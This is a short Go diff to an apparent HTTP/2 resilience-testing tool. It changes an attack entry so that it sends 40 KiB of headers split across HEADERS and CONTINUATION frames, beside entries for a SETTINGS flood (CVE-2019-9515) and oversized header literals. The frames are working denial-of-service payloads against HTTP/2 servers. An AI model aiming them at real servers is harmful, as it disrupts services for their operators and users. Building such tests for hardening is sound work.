@@ -179,8 +179,10 @@ var Attacks = []Attack{
 		long := "\x40" + integer(7, 1) + "a" + integer(7, 4000) + strings.Repeat("x", 4000)
 		return appendFrame(nil, frameHeaders, flagEnd|flagEndHeaders, odd(i), long+strings.Repeat("\xbe", 12_000))
 	}},
-	{Name: "headers of 15 KiB and more", step: func(host string, i int) []byte {
-		return attackHead(odd(i), host, true, "a", strings.Repeat("x", 15_500), "b", strings.Repeat("x", 500))
+	{Name: "headers of 40 KiB", step: func(host string, i int) []byte {
+		b := appendFrame(nil, frameHeaders, flagEnd, odd(i), block("GET", host, attackedPath)+literal("a", strings.Repeat("x", 13_000)))
+		b = appendFrame(b, frameContinuation, 0, odd(i), literal("b", strings.Repeat("x", 13_000)))
+		return appendFrame(b, frameContinuation, flagEndHeaders, odd(i), literal("c", strings.Repeat("x", 13_000)))
 	}},
 	{Name: "SETTINGS flood (CVE-2019-9515)", step: func(string, int) []byte { return appendFrame(nil, frameSettings, 0, 0, "") }},
 	{Name: "SETTINGS full of entries", step: func(string, int) []byte {
